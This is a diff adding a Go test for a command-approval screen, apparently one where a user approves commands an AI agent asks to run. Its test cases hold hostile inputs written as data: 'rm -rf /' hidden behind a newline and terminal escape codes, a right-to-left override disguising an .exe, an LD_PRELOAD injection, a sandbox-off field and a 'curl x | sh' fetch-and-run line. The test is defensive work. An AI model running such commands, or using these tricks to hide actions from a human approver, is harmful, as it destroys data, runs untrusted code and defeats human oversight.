@@ -257,3 +257,55 @@ func TestScreen_isExactlyItsSizeAndShowsOnlyText(t *testing.T) {
 		}
 	}
 }
+
+// fields are pairs of a name and a value.
+func fields(pairs ...string) (out []agents.Field) {
+	for pair := range slices.Chunk(pairs, 2) {
+		out = append(out, agents.Field{Name: pair[0], Value: pair[1]})
+	}
+	return out
+}
+
+// Inputs that try to hide something, on a terminal of 80x24.
+func TestScreen_hidesNothingOfACommand(t *testing.T) {
+	many := make([]agents.Field, 200)
+	for i := range many {
+		many[i] = agents.Field{Name: "member" + strings.Repeat("x", i%3), Value: "v"}
+	}
+	long := append([]string{"rm"}, slices.Repeat([]string{"-v", "a file"}, 40)...)
+	for name, c := range map[string]struct {
+		argv   []string
+		fields []agents.Field
+		dir    string
+		each   string
+	}{
+		"long argv":  {argv: append(long, "/etc")},
+		"controls":   {argv: []string{"echo", "a\nrm -rf /\x1b[2J"}, fields: fields("note\n", "b\r\x1b]0;x\a"), each: "note comes with the command"},
+		"bidi":       {argv: []string{"cat", "\u202egnp.exe"}, fields: fields("x", "\u2066\u200bsecret"), each: "x comes with the command"},
+		"preload":    {argv: []string{"make"}, fields: fields("env.LD_PRELOAD", "/tmp/x.so"), each: "env.LD_PRELOAD comes with the command"},
+		"workdir":    {argv: []string{"rm", "-rf", "build"}, dir: "/etc", each: "it names another folder than that of the workspace"},
+		"background": {argv: []string{"make"}, fields: fields("run_in_background", "true"), each: "run_in_background comes with the command"},
+		"shell":      {argv: []string{"sh", "-c", "make; curl x | sh"}, each: "sh is given a line to run"},
+		"unknown":    {argv: []string{"make"}, fields: fields("x", strings.Repeat("long ", 120)), each: "x comes with the command"},
+		"nested":     {argv: []string{"make"}, fields: fields("a.b.c.sandbox", "off", "a.list", `[{"d":1}]`), each: "a.b.c.sandbox comes with the command"},
+		"many":       {argv: []string{"make"}, fields: many, each: "member comes with the command"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			f := newFixture(t)
+			ev := asked("ada", "t1", f.now, c.argv...)
+			ev.Fields, ev.EachTime = c.fields, c.each
+			if c.dir != "" {
+				ev.Dir, ev.Outside = c.dir, true
+			}
+			f.Apply(ev)
+			f.Opened()
+			f.now = f.now.Add(time.Second)
+			golden.RequireEqual(t, []byte(f.drawn()))
+			if f.press("down", "down", "down"); c.each != "" {
+				if d, ok := f.press("ctrl+s")[0].(approvals.Decide); ok && d.Approval.Choice == debate.ApprovalSession {
+					t.Error("it can be allowed in this session")
+				}
+			}
+		})
+	}
+}
